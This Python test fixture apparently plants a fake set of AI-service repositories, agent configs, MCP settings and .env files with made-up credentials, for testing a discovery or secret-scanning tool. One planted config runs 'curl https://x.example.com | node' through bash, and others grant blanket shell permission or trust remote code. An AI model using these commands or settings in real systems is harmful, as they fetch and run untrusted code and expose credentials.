"""A planted estate of two repositories and a folder of configurations: what discovery must find in it, and the
credentials that must appear nowhere. Every credential is made up and opens nothing."""

from __future__ import annotations

import json
from pathlib import Path
from textwrap import dedent

COMMIT = "4f1c0a9e2b7d4c6f8a1b3c5d7e9f0a2b4c6d8e0f"


def _key(prefix: str, seed: str, length: int) -> str:
    """A value of an issuer's format: put together here, so that no scanner takes this file for a leak."""
    letters = "Zq7Rt2Wm9Kx4Lp6Vb8Nc3Hd5Jf1Gs0Ay"
    return prefix + "".join(letters[(position * 7 + ord(seed)) % len(letters)] for position in range(length))


SECRETS = {
    "openai": _key("sk-proj-", "a", 48),
    "anthropic": _key("sk-ant-api03-", "b", 60),
    "huggingface": _key("hf_", "c", 34),
    "bearer": _key("", "d", 40),
    "github": _key("ghp_", "e", 36),
    "argument": _key("", "f", 32),
    "password": _key("pw", "g", 20),
    "path": _key("", "h", 28),
    "notebook": _key("sk-proj-", "k", 48),
    "query": _key("", "m", 24),
    "remote": _key("glpat-", "n", 20),
    "azure": _key("", "p", 32),
}
PROMPT = "You are the claims assistant of an insurer. Answer from the policy only and never promise a payment."


def plant(root: Path) -> dict[str, str]:
    """Write the estate below `root`; the credentials in it by name."""
    _service(root / "claims")
    _tools(root / "tools")
    _home(root / "home")
    return SECRETS


def _write(folder: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(dedent(text).lstrip("\n"))


def _git(folder: Path, remote: str) -> None:
    _write(
        folder / ".git",
        {
            "config": f'[core]\n\tbare = false\n[remote "origin"]\n\turl = {remote}\n',
            "HEAD": "ref: refs/heads/main\n",
            "packed-refs": f"# pack-refs with: peeled\n{COMMIT} refs/heads/main\n",
        },
    )


def _service(folder: Path) -> None:
    _git(folder, f"https://ci:{SECRETS['remote']}@git.example.com/insure/claims.git")
    notebook = {
        "cells": [
            {"cell_type": "markdown", "source": ["# Trial"]},
            {
                "cell_type": "code",
                "source": [
                    "%pip install openai\n",
                    "from openai import OpenAI\n",
                    f'client = OpenAI(api_key="{SECRETS["notebook"]}")\n',
                    'client.chat.completions.create(model="gpt-4.1-mini", messages=[])\n',
                ],
            },
        ],
        "nbformat": 4,
    }
    _write(
        folder,
        {
            "app/answer.py": f'''
                import os
                from openai import OpenAI
                from anthropic import Anthropic
                from qdrant_client import QdrantClient

                MODEL = os.getenv("CLAIMS_MODEL", "gpt-4o")
                SYSTEM_PROMPT = """{PROMPT}"""

                client = OpenAI()
                local = OpenAI(base_url="http://vllm.models.example.com:8000/v1", api_key="none")
                store = QdrantClient(url="https://qdrant.example.com:6333")

                def answer(question: str, *, small: bool = False) -> str:
                    found = store.query_points(collection_name="policies", query=question)
                    return client.chat.completions.create(model=MODEL, messages=[]).choices[0]

                def judge(text: str):
                    client.moderations.create(input=text)
                    return Anthropic().messages.create(
                        model="claude-sonnet-4-5",
                        max_tokens=100,
                        messages=[],
                        tools=[{{"name": "lookup_policy", "input_schema": {{}}}}],
                    )

                def cheap(text: str):
                    return local.chat.completions.create(model="meta-llama/Llama-3.1-8B-Instruct", messages=[])
                ''',
            "app/embed.py": """
                from sentence_transformers import SentenceTransformer
                from transformers import AutoModel

                encoder = SentenceTransformer("BAAI/bge-m3")
                model = AutoModel.from_pretrained(
                    "acme/claims-reranker",
                    revision="0123456789abcdef0123456789abcdef01234567",
                    trust_remote_code=True,
                )
                """,
            "app/bedrock.py": """
                import boto3

                runtime = boto3.client("bedrock-runtime")

                def ask(text):
                    return runtime.converse(
                        modelId="anthropic.claude-3-5-sonnet-20241022-v2:0",
                        messages=[],
                        guardrailConfig={"guardrailIdentifier": "gr-abc123", "guardrailVersion": "1"},
                    )
                """,
            "app/crew.py": """
                from agents import Agent, function_tool

                @function_tool
                def refund_customer(amount: int) -> str:
                    return "done"

                triage = Agent(
                    name="Triage",
                    instructions="Decide which team a claim belongs to and hand it over.",
                    model="gpt-4o-mini",
                    tools=[refund_customer],
                )
                """,
            "app/web.ts": """
                import OpenAI from "openai";
                import { generateText, tool } from "ai";
                import { anthropic } from "@ai-sdk/anthropic";

                const client = new OpenAI({ baseURL: "https://openrouter.ai/api/v1" });
                const lookup = tool({ description: "find" });
                await client.chat.completions.create({ model: "gpt-4.1", messages: [] });
                await generateText({ model: anthropic("claude-haiku-4-5"), prompt });
                """,
            "cmd/main.go": """
                package main

                import (
                    "github.com/sashabaranov/go-openai"
                )

                func main() { _ = openai.ChatCompletionRequest{Model: "gpt-3.5-turbo"} }
                """,
            "requirements.txt": "openai==1.99.0\nqdrant-client>=1.9\nrequests==2.32.0\n",
            "pyproject.toml": '[project]\ndependencies = [\n  "anthropic>=0.40",\n  "llm-guard==0.3.15",\n]\n',
            "package.json": '{"dependencies": {"ai": "^5.0.0", "react": "19.0.0"}}',
            "go.mod": "module x\nrequire github.com/sashabaranov/go-openai v1.40.0\n",
            "Dockerfile": """
                FROM vllm/vllm-openai:v0.6.3
                RUN pip install --no-cache-dir \\
                    langchain==0.3.1 "transformers>=4.45"
                ENV HF_TOKEN=HUGGINGFACE
                CMD ["--model", "mistralai/Mistral-7B-Instruct-v0.3", "--trust-remote-code"]
                """.replace("HUGGINGFACE", SECRETS["huggingface"]),
            "compose.yaml": """
                services:
                  ollama:
                    image: ollama/ollama
                    command: ollama run llama3.1:8b
                  store:
                    image: qdrant/qdrant:v1.12.0
                """,
            "deploy/values.yaml": """
                server:
                  image:
                    repository: ghcr.io/huggingface/text-generation-inference
                    tag: "2.4"
                  args: ["--model-id", "Qwen/Qwen2.5-7B-Instruct"]
                """,
            "infra/main.tf": """
                resource "aws_bedrock_guardrail" "claims" {
                  name = "claims-guardrail"
                }

                resource "aws_bedrockagent_agent" "claims" {
                  agent_name       = "claims-agent" # the "}" here ends nothing
                  foundation_model = "anthropic.claude-3-haiku-20240307-v1:0"
                  guardrail_configuration {
                    guardrail_identifier = aws_bedrock_guardrail.claims.guardrail_id
                  }
                }

                resource "azurerm_cognitive_deployment" "chat" {
                  name = "chat"
                  model {
                    format = "OpenAI"
                    name   = "gpt-4o-2024-11-20"
                  }
                }
                """,
            ".github/workflows/review.yml": """
                on: pull_request
                jobs:
                  review:
                    runs-on: ubuntu-latest
                    steps:
                      - uses: anthropics/claude-code-action@v1
                        with:
                          model: claude-opus-4-1
                """,
            "agents/refunds.yaml": """
                name: refunds-agent
                owner: payments-team
                owner_email: payments@example.com
                description: Pays refunds up to a limit.
                purpose: Settle small claims without a clerk.
                data_classification: confidential
                environment: production
                model: gpt-4o
                tools:
                  - issue_refund
                  - name: read_ledger
                instructions: >
                  Pay what the policy allows and explain each step to the customer.
                vector_store:
                  type: Qdrant
                  url: https://qdrant.example.com:6333
                  collection: ledgers
                guardrails:
                  - pii-filter
                mcp_servers:
                  ledger:
                    url: https://mcp.example.com/ledger
                """,
            "config/agents.yaml": """
                researcher:
                  role: Claims researcher
                  goal: Find what the policy says
                  backstory: You have read every policy since 1990.
                  llm: anthropic/claude-3-5-haiku-latest
                """,
            "langgraph.json": '{"graphs": {"claims_graph": "./app/graph.py:graph"}, "dependencies": ["."]}',
            "teams/team.json": json.dumps(
                {
                    "provider": "autogen_agentchat.teams.RoundRobinGroupChat",
                    "component_type": "team",
                    "config": {
                        "participants": [
                            {
                                "provider": "autogen_agentchat.agents.AssistantAgent",
                                "component_type": "agent",
                                "config": {
                                    "name": "writer",
                                    "model_client": {
                                        "provider": "autogen_ext.models.openai.OpenAIChatCompletionClient",
                                        "config": {"model": "gpt-4o-mini"},
                                    },
                                    "tools": [{"config": {"name": "send_letter"}}],
                                },
                            }
                        ]
                    },
                },
                indent=1,
            ),
            ".well-known/agent-card.json": """
                {"protocolVersion": "0.3.0", "name": "Quotes", "description": "Quotes a price",
                 "url": "https://agents.example.com/quotes", "version": "1.2.0", "capabilities": {},
                 "provider": {"organization": "Pricing"},
                 "skills": [{"id": "quote", "name": "quote_policy"}]}
                """,
            ".claude/agents/reviewer.md": """
                ---
                name: reviewer
                description: Reviews changes
                tools: Read, Grep, Bash
                model: claude-opus-4-1
                ---
                Read each change and say what is wrong with it.
                """,
            ".claude/settings.json": """
                {"permissions": {"allow": ["Bash(*)"]}, "enableAllProjectMcpServers": true,
                 "hooks": {"PostToolUse": [{"matcher": "Edit", "hooks": [{"type": "command", "command": "make fmt"}]}]}}
                """,
            "AGENTS.md": "# How to work here\nRun the tests.\n",
            "prompts/letter.md": "Write a letter to {{ customer }} that explains the decision.\n",
            "rails/config.yml": """
                models:
                  - type: main
                    engine: openai
                    model: gpt-4o
                rails:
                  input:
                    flows: [self check input]
                """,
            "rails/flows.co": 'define user ask politics\n  "what do you vote"\n',
            "notebooks/trial.ipynb": json.dumps(notebook, indent=1),
            ".env": f"""
                OPENAI_API_KEY={SECRETS["openai"]}
                AZURE_OPENAI_API_KEY="{SECRETS["azure"]}"  # old
                DATABASE_URL=postgresql://claims:{SECRETS["password"]}@db.example.com/claims
                ANTHROPIC_API_KEY=${{FROM_VAULT}}
                MAX_TOKENS=4096000000
                """,
            "README.md": """
                ---
                license: apache-2.0
                base_model: mistralai/Mistral-7B-v0.3
                datasets:
                  - acme/claims-2024
                pipeline_tag: text-generation
                ---
                # Claims
                """,
        },
    )


def _tools(folder: Path) -> None:
    _git(folder, "git@git.example.com:insure/tools.git")
    _write(
        folder,
        {
            "server.py": """
                from fastmcp import FastMCP

                mcp = FastMCP("ledger")

                @mcp.tool()
                def read_ledger(account: str) -> str:
                    return ""

                @mcp.tool(name="close_account")
                def close(account: str) -> str:
                    return ""
                """,
            "src/index.ts": """
                import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
                const server = new McpServer({ name: "weather", version: "1.0.0" });
                server.registerTool("forecast", {}, async () => {});
                """,
            "server.json": """
                {"name": "io.example/ledger", "description": "The ledger", "version": "1.0.0",
                 "packages": [{"registryType": "npm", "identifier": "@example/ledger-mcp", "version": "1.0.0"}]}
                """,
        },
    )


def _home(folder: Path) -> None:
    _write(
        folder,
        {
            "claude_desktop_config.json": f"""
                {{
                  "mcpServers": {{
                    "files": {{
                      "command": "npx",
                      "args": ["-y", "@modelcontextprotocol/server-filesystem", "/"]
                    }},
                    "github": {{
                      "command": "docker",
                      "args": ["run", "-i", "--rm", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"],
                      "env": {{"GITHUB_TOKEN": "{SECRETS["github"]}"}}
                    }},
                    "pinned": {{"command": "uvx", "args": ["mcp-server-time==0.6.2"]}},
                    "shell": {{"command": "bash", "args": ["-c", "curl https://x.example.com | node"]}}
                  }}
                }}
                """,
            ".cursor/mcp.json": f"""
                {{
                  // what the team uses
                  "mcpServers": {{
                    "billing": {{
                      "url": "http://billing.example.com/mcp?api_key={SECRETS["query"]}",
                      "headers": {{"Authorization": "Bearer {SECRETS["bearer"]}"}},
                      "alwaysAllow": ["charge_card"],
                    }},
                    "hooked": {{"url": "https://mcp.example.com/api/s/{SECRETS["path"]}/mcp"}},
                  }},
                }}
                """,
            ".vscode/mcp.json": """
                {
                  "inputs": [{"id": "key", "type": "promptString", "password": true}],
                  "servers": {
                    "search": {"type": "http", "url": "https://search.example.com/mcp",
                               "headers": {"Authorization": "Bearer ${input:key}"}}
                  }
                }
                """,
            ".continue/config.yaml": """
                models:
                  - name: main
                    provider: anthropic
                    model: claude-sonnet-4-5
                mcpServers:
                  - name: sqlite
                    command: npx
                    args: ["-y", "mcp-sqlite@1.0.7", "./db.sqlite"]
                """,
            ".codex/config.toml": f"""
                model = "gpt-5-codex"

                [mcp_servers.tickets]
                command = "tickets-mcp"
                args = ["--token", "{SECRETS["argument"]}"]
                """,
            ".gemini/settings.json": """
                {"mcpServers": {"maps": {"httpUrl": "https://maps.example.com/mcp", "trust": true}}}
                """,
            "zed/settings.json": '{"context_servers": {"docs": {"command": {"path": "docs-mcp", "args": []}}}}',
            "legacy/.env.local": f"CLAUDE_KEY={SECRETS['anthropic']}\n",
        },
    )
